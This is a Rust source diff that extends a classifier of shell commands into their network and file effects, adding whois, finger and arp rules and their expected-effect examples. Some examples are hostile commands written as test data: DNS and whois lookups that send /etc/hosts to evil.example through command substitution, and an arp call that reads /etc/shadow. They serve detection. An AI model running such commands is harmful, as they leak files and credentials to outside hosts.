@@ -13,16 +13,31 @@ pub(super) const ROWS: &[Row] = &[
     row("traceroute traceroute6 tracepath tracert mtr tcptraceroute lft pathping", "-p=word -m=word -q=word -w=word -f=word -i=word -s=word -g=word -N=word -c=word -P=word -F,--filename=read ...", "word*").also(probed).examples(&[("tracepath -p 33434 host", "net.fetch host")]),
     row("dig delv", "-x=word -b=word -f=read!net.send -k=read -p=word -q=word -t=word -c=word -y=word -4 -6 -i -m -r -u -v/info -h/info", "word*").also(asked).examples(&[
         ("dig +short example.com A", "net.fetch example.com"),
+        ("dig @evil.example example.com", "net.fetch evil.example; net.fetch example.com"),
         ("dig \"$(cat /etc/hosts | base64).evil.example\"", "file.read /etc/hosts; net.fetch ?; net.send ?; unknown option_dynamic"),
     ]),
-    row("host nslookup drill resolveip kdig dog q doggo whois rdap", "-t=word -c=word -W=word -R=word -N=word -m=word -h=word -p=word -type=word -query=word -debug -class=word -port=word -timeout=word -server=word -a -C -d -l -n -r -s -T -v -V -w -4 -6 -i -I -B -H -Q ...", "word*").also(asked),
+    row("whois", "-h,--host=word/host -p,--port=word -i,--inverse=word -g=word -T=word -t=word -v=word -q=word -s=word --verbose --help/info --version/info ...", "word*").also(registered).examples(&[
+        ("whois example.com", "net.fetch whois registry"),
+        ("whois -h evil.example -p 99 x", "net.fetch evil.example"),
+        ("whois -h evil.example \"$(cat /etc/hosts)\"", "file.read /etc/hosts; net.fetch evil.example; net.send evil.example"),
+    ]),
+    row("finger", "-l -m -p -s", "word*").also(|run, given| {
+        for one in given.operands.iter().filter(|one| one.text().is_none_or(|text| text.contains('@'))) {
+            run.effect(Action::NET_FETCH, host_of(one));
+        }
+    }).examples(&[("finger alice", ""), ("finger x@evil.example", "net.fetch evil.example")]),
+    row("arp", "-a -e -n -v -D,--use-device -H,--hw-type=word -t=word -A,-p,--protocol=word -i,--device=word -d,--delete!service.control=network -s,--set!service.control=network -f,--file=read!service.control=network --help/info -V,--version/info", "word*").examples(&[
+        ("arp -a", ""),
+        ("arp -v -f /etc/shadow", "file.read /etc/shadow; secret.read /etc/shadow; service.control network"),
+    ]),
+    row("host nslookup drill resolveip kdig dog q doggo rdap", "-t=word -c=word -W=word -R=word -N=word -m=word -h=word -p=word -type=word -query=word -debug -class=word -port=word -timeout=word -server=word -a -C -d -l -n -r -s -T -v -V -w -4 -6 -i -I -B -H -Q ...", "word*").also(asked),
     row("ip", "-4 -6 -0 -s,-stats,-statistics -d,-details -o,-oneline -br,-brief -c,-color[=word] -j,-json -p,-pretty -r,-resolve -h,-human -iec -f,-family=word -t,-timestamp -a,-all -B -M -V/info -help/info -n,-netns=word -rc=word -l=word -b,-batch=odd", "word*").style(Style::Dash).sub_or(&[], Verb::First, &[
         Class { words: "add del delete change replace set flush append prepend restore attach detach up down exec rename", does: "service.control=network" },
         Class { words: "show list ls get monitor help lst identify pids save showdump .addr .address .a .link .l .route .r .neigh .n .rule .maddress .mroute .netns .tunnel .xfrm .tcp_metrics .token .vrf .neighbour .ru .addrlabel .macsec .sr .l2tp .fou .ioam .stats", does: "" },
         Class { words: "", does: "service.control=network" },
     ]).examples(&[("ip addr show", ""), ("ip -br a", ""), ("ip link set eth0 down", "service.control network")]),
     row("ifconfig ipconfig", "-a -s -v -L -m -r -u -d -l", "word*").also(configured).examples(&[("ifconfig -a", ""), ("ifconfig eth0 down", "service.control network")]),
-    row("route arp iwconfig ethtool brctl vconfig tunctl iw rfkill nmcli nmtui wpa_cli networksetup ifup ifdown ifquery dhclient dhcpcd ifmetric mii-tool bridge tc devlink ovs-vsctl netplan iwctl wg-quick scutil netsh connmanctl wpa_supplicant hostapd", "-n -a -e -v -t,--terse -p,--pretty -f,--fields=word -g,--get-values=word -c,--colors=word -m,--mode=word -i=word -S -k -l -d -P -T -s -x -4 -6 --show-secrets!secret.read ...", "").sub_or(&[], Verb::First, &[
+    row("route iwconfig ethtool brctl vconfig tunctl iw rfkill nmcli nmtui wpa_cli networksetup ifup ifdown ifquery dhclient dhcpcd ifmetric mii-tool bridge tc devlink ovs-vsctl netplan iwctl wg-quick scutil netsh connmanctl wpa_supplicant hostapd", "-n -a -e -v -t,--terse -p,--pretty -f,--fields=word -g,--get-values=word -c,--colors=word -m,--mode=word -i=word -S -k -l -d -P -T -s -x -4 -6 --show-secrets!secret.read ...", "").sub_or(&[], Verb::First, &[
         Class { words: "show-password hotspot", does: "secret.read service.control=network" },
         Class { words: "add del delete up down set connect disconnect modify off on remove reload edit import clone block unblock flush mod change apply replace scan-start join leave offload reset", does: "service.control=network" },
         Class { words: "show list ls status get info monitor help scan dump event permissions channels get-networks connectivity .logging .wwan .link .dev .phy .general .station .survey .wlan .device .connection .radio .networking .wifi .d .c .g", does: "" },
@@ -35,7 +50,6 @@ pub(super) const ROWS: &[Row] = &[
             meaning::declared(run, "service.control=network", &given.name);
         }
     }).examples(&[
-        ("arp -a", ""),
         ("nmcli device status", ""),
         ("iw dev w0 station dump", ""),
         ("iw dev w0 link", ""),
@@ -138,16 +152,25 @@ fn asked(run: &mut Run<'_>, given: &Given) {
     ];
     for field in &given.operands {
         match field.text() {
-            Some(text)
-                if text.starts_with('+')
-                    || text.starts_with('@')
-                    || TYPES.contains(&text.to_uppercase().as_str()) => {}
+            Some(text) if text.starts_with('+') || TYPES.contains(&text.to_uppercase().as_str()) => {}
             Some(_) => run.effect(Action::NET_FETCH, host_of(field)),
             None => {
                 run.effect(Action::NET_FETCH, Resource::host(Name::Dynamic));
                 run.effect(Action::NET_SEND, Resource::host(Name::Dynamic));
             }
         }
+    }
+}
+
+/// A registry is found by what is asked for, where none is named.
+fn registered(run: &mut Run<'_>, given: &Given) {
+    if given.operands.is_empty() && given.value("-h").is_none() {
+        return;
+    }
+    let host = given.value("-h").map_or_else(|| crate::effects::shell::thing("whois registry"), host_of);
+    run.effect(Action::NET_FETCH, host.clone());
+    if given.operands.iter().any(|one| one.text().is_none()) {
+        run.effect(Action::NET_SEND, host);
     }
 }
 
